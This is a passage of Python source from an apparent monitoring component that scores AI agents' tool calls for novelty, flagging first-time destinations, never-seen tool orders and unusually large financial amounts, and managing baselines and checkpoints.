    def observe(self, event: AuditEvent, session: SessionState) -> Sequence[Finding]:
        kind = event.kind
        if kind != "tool_call":
            attrs = event.attributes
            if attrs:
                if kind == "tool_result":
                    if not _CONTEXT_KEY_SET.isdisjoint(attrs):
                        self._result_context(attrs, session, event)
                elif kind == "prompt":
                    self._prompt(event, session)
            return NO_FINDINGS
        st = session.scratch.get("novelty")
        if st is None:
            st = session.scratch["novelty"] = self._session_state(session, event)
        agent = st.agent
        if agent is None:  # session state restored from a checkpoint
            agent = self._relink(st, session)
        target = event.target
        if target and "@" in target and event.tool and not self._is_mail_tool(event.tool):
            self._add_context(st, email_addresses(target))  # a lookup naming someone puts them in context
        consequence = self.consequence(event, session)
        tier = consequence.tier
        self.tier_counts[tier] += 1
        unusual = self._unusual_amount(event, agent, st, tier) if tier == "financial" else NO_FINDINGS
        items = self._items(event, st, tier)
        if event.tool:  # order: this call's predecessor in the session (SESSION_START for the first call)
            if tier in HIGH_STAKES:  # learned (and judged) only where it matters: into high-stakes calls
                items.append(("transition", st.prev + TRANSITION_SEP + event.tool, True))
            st.prev = event.tool
        if not items:
            return unusual
        cold = (
            None if st.ready or tier not in self._cold.table else self._cold_start(event, agent, st, consequence, items)
        )
        if cold is not None:  # cold start: the consequence-tier table judged the call (cold_start.py)
            unusual = (cold, *unusual)
        self._changed.add("a:" + session.agent_id)
        keep = 1.0 - self.config.discovery_fading
        known_items = agent.items
        novel: list[tuple[float, str, str, bool]] = []
        discovered: list[list[float]] = []
        for kind, item, internal in items:
            known = known_items.get(kind)
            rates = agent.rates if internal else agent.external_rates
            counts = rates.get(kind)
            if counts is None:
                counts = rates[kind] = [0.0, 0.0]
            if known is not None and item in known:
                known.move_to_end(item)
                counts[0] = counts[0] * keep + 1.0
                counts[1] *= keep
                continue
            if (kind, item) in st.pending:
                continue  # already reported in this session
            rate = counts[1] / (counts[0] + 1.0)
            counts[0] = counts[0] * keep + 1.0
            counts[1] *= keep
            score = self._score(kind, internal, item, event, st, rate, tier) if st.ready else 0.0
            novel.append((score, kind, item, internal))
            discovered.append(counts)
        if not novel:
            return unusual
        agent_key = "a:" + event.agent_id
        best = max(novel, key=lambda n: n[0])
        if best[0] < self.config.report_min_score:
            if cold is not None:
                # Reported by the cold-start table: held like a reported novelty, learned when the
                # session closes clean (after confirm_sessions such sessions at alert level).
                for _, kind, item, _ in novel:
                    st.pending[(kind, item)] = cold.score
                return unusual
            # Ordinary discoveries raise the agent's discovery rate; a reported one does not (river's
            # AnomalyFilter rule: what is judged anomalous does not teach what normal looks like).
            for counts in discovered:
                counts[1] += 1.0
            for _, kind, item, _ in novel:
                self._learn_all(st, agent_key, kind, item)
            return unusual
        for item_score, kind, item, _ in novel:
            st.pending[(kind, item)] = item_score
        score, kind, item, internal = best
        where = "internal" if internal or kind in ("tool", "table", "cloud_account", "tier") else "external"
        others = [f"{k} {quote(i, 60)}" for _, k, i, _ in novel if (k, i) != (kind, item) and k != "transition"][:3]
        what = "consequence tier" if kind == "tier" else kind.replace("_", " ")
        departure = next((i for s, k, i, _ in novel if k == "transition" and s > 0), None)
        if kind == "transition":
            before = ", ".join(quote(p, 40) for p in self._predecessors(agent, event.tool or "", 3))
            reason = (
                f"a never-seen order for this agent: {quote(item, 120)} (a {tier.replace('_', '-')} action: "
                f"{consequence.why}); it came to {quote(event.tool or '', 60)} from {before} before"
            )
        else:
            reason = f"first use by this agent of {where if kind != 'tier' else 'a'} {what} {quote(item, 80)}"
        if kind not in ("tier", "transition"):
            reason += f" (a {tier.replace('_', '-')} action: {consequence.why})"
        if departure is not None and kind != "transition":
            if kind in _PARTY_KINDS:  # a new other party, in a never-seen order: a little more
                score = min(0.95, score + self.config.transition_bonus)
            reason += f", in a never-seen order {quote(departure, 120)}"
        if event.bytes_out:
            reason += f" ({event.bytes_out:,} bytes out)"
        if others:
            reason += "; also new: " + ", ".join(others)
        return (
            Finding(
                score=round(score, 4),
                reason=reason,
                event_ids=(event.event_id,),
                category="anomaly",
                rule=kind,
            ),
            *unusual,
        )

    def _cold_start(
        self, event: AuditEvent, agent: _Profile, st: _SessionNovelty, consequence: Consequence, items: list
    ) -> Finding | None:
        """The cold-start table's finding for a call of an agent without a baseline (:mod:`.cold_start`)."""
        cfg = self.config
        progress = (
            f"{agent.sessions} of {cfg.min_sessions_for_baseline} sessions, "
            f"{agent.events} of {cfg.min_events_for_baseline} events"
        )
        found = self._cold.judge(
            event,
            consequence.tier,
            consequence.why,
            items,
            internal=st.internal,
            context=st.context,
            asked=st.asked,
            progress=progress,
        )
        if found is not None:
            self._cold_metric[consequence.tier].inc()
        return found

    def _unusual_amount(self, event: AuditEvent, agent: _Profile, st: _SessionNovelty, tier: str) -> Sequence[Finding]:
        """How much: a financial call's amount far above what this agent moves with this tool.

        Per agent and tool, river ``EWMean``/``EWVar`` of log10(amount); once ``min_amount_observations``
        calls are learned, an amount ``amount_sigmas`` or more standard deviations above the mean is
        reported (0.6, up to 0.85), and not learned (what is reported does not teach normal)."""
        amount = _amount_of(event.args)
        if amount is None:
            return NO_FINDINGS
        cfg = self.config
        tool = (event.tool or "")[:128]
        stats_ = agent.amounts.get(tool)
        if stats_ is None:
            stats_ = agent.amounts[tool] = [stats.EWMean(cfg.amount_fading), stats.EWVar(cfg.amount_fading), 0]
            while len(agent.amounts) > cfg.max_items_per_kind:
                agent.amounts.popitem(last=False)
        else:
            agent.amounts.move_to_end(tool)
        x = math.log10(amount + 1.0)
        mean, var, seen = stats_
        if st.ready and seen >= cfg.min_amount_observations:
            sigma = math.sqrt(max(var.get(), cfg.amount_min_variance))
            z = (x - mean.get()) / sigma
            if z >= cfg.amount_sigmas:
                usual = 10 ** mean.get()
                return (
                    Finding(
                        score=round(min(0.85, 0.6 + 0.05 * (z - cfg.amount_sigmas)), 4),
                        reason=(
                            f"{quote(tool, 60)} moves {amount:,.2f}, {z:.1f} standard deviations above what this "
                            f"agent usually moves with it (about {usual:,.2f})"
                        ),
                        event_ids=(event.event_id,),
                        category="anomaly",
                        rule="amount",
                    ),
                )
        mean.update(x)
        var.update(x)
        stats_[2] = seen + 1
        self._changed.add("a:" + event.agent_id)
        return NO_FINDINGS

    def _add_context(self, st: _SessionNovelty, names: Iterable[str]) -> None:
        context = st.context
        cap = self.config.max_context
        for name in names:
            if len(context) >= cap:
                return
            if not isinstance(context, set):  # created on the first name
                context = st.context = set(context)
            context.add(name)
            if "@" in name:
                context.add(name.rsplit("@", 1)[1])

    def _result_context(self, attrs: dict[str, Any], session: SessionState, event: AuditEvent) -> None:
        """Who a tool result says the work is about (a ticket's requester, a mail's sender)."""
        st = session.scratch.get("novelty")
        if st is None:
            st = session.scratch["novelty"] = self._session_state(session, event)
        for key in _CONTEXT_KEYS:
            value = attrs.get(key)
            if isinstance(value, str) and "@" in value:
                self._add_context(st, email_addresses(value))

    def _prompt(self, event: AuditEvent, session: SessionState) -> None:
        """Destinations the *user* names in a prompt are expected, not novel (scored lower); so is a
        call whose every argument value the user gave."""
        text = event.attributes.get("content") if event.attributes else None
        if not isinstance(text, str):
            return
        st = session.scratch.get("novelty")
        if st is None:
            st = session.scratch["novelty"] = self._session_state(session, event)
        if len(st.asked) < MAX_ASKED_CHARS:
            st.asked = (st.asked + "\n" + text[: MAX_ASKED_CHARS - len(st.asked)].lower())[:MAX_ASKED_CHARS]
        if "." in text:
            self._add_context(st, named_destinations(text, self.config.max_context))

    @staticmethod
    def _asked_for(event: AuditEvent, st: _SessionNovelty) -> bool:
        """Whether every identifying argument value of the call (ids, names: 3–64 characters) is in what
        the principal asked this session — and there is at least one."""
        args = event.args
        if not args or not st.asked:
            return False
        values = [v for v in list(args.values())[:16] if isinstance(v, str) and 3 <= len(v) <= 64]
        return bool(values) and all(v.lower() in st.asked for v in values)

    def _relink(self, st: _SessionNovelty, session: SessionState) -> _Profile:
        agent = st.agent = self._profile("a:" + session.agent_id)
        if st.principal_key is not None:
            st.principal = self._profile(st.principal_key)
        return agent

    #: Attributes that are handles, not learned state: never checkpointed.
    _HANDLES: ClassVar[frozenset[str]] = frozenset(
        {"config", "_tier_metric", "_baseline_metric", "_catalogue", "_cold", "_cold_metric"}
    )

    def checkpoint(self) -> bytes:
        """Learned state: profiles, fleet items, counts (not config, metric handles or the catalogue)."""
        return pickle.dumps({k: v for k, v in self.__dict__.items() if k not in self._HANDLES}, protocol=5)

    def restore(self, state: bytes) -> None:
        loaded = pickle.loads(state)  # noqa: S301 - our own checkpoint
        self.__dict__.update({k: v for k, v in loaded.items() if k not in self._HANDLES})
        for kind in KINDS:  # a checkpoint written before a kind existed
            self._fleet.setdefault(kind, OrderedDict())
        self._publish_baselines()

    def baseline_status(self) -> dict[str, bool]:
        """Which agents have a baseline yet (True) and which are still learning (False): cold start, visible."""
        cfg = self.config
        return {
            key[2:]: p.sessions >= cfg.min_sessions_for_baseline and p.events >= cfg.min_events_for_baseline
            for key, p in self._profiles.items()
            if key.startswith("a:")
        }

    def _publish_baselines(self) -> None:
        """Baseline readiness and calls per tier to the metrics (every so many sessions, never per event)."""
        for tier, count in self.tier_counts.items():
            if count:
                self._tier_metric[tier].inc(count)
                self.tier_counts[tier] = 0
        status = self.baseline_status()
        ready = sum(status.values())
        self._baseline_metric["ready"].set(ready)
        self._baseline_metric["learning"].set(len(status) - ready)

    def close_session(self, session: SessionState) -> Sequence[Finding]:
        st = session.scratch.get("novelty")
        if st is None:
            return NO_FINDINGS
        if st.agent is None:
            self._relink(st, session)
        agent = st.agent = self._profile("a:" + session.agent_id, st.agent)  # refresh LRU, survive eviction
        agent.sessions += 1
        agent.events += session.event_count
        self._closed += 1
        if self._closed % BASELINE_PUBLISH_EVERY == 1:
            self._publish_baselines()  # O(profiles): every so many sessions, not every one
        self._changed.add("a:" + session.agent_id)
        if st.pending:
            cfg = self.config
            gate = LearnFilter(self.name, confirm_at=cfg.confirm_min_score, confirm_sessions=cfg.confirm_sessions)
            if gate.clean(session):
                agent_key = "a:" + session.agent_id
                for (kind, item), score in st.pending.items():
                    # an alert-level item alerts again next time, until confirm_sessions clean sessions
                    if gate.confirmed(agent.confirm, f"{kind}\t{item}", score, cfg.max_items_per_kind):
                        self._learn_all(st, agent_key, kind, item)
        st.pending = {}
        return NO_FINDINGS
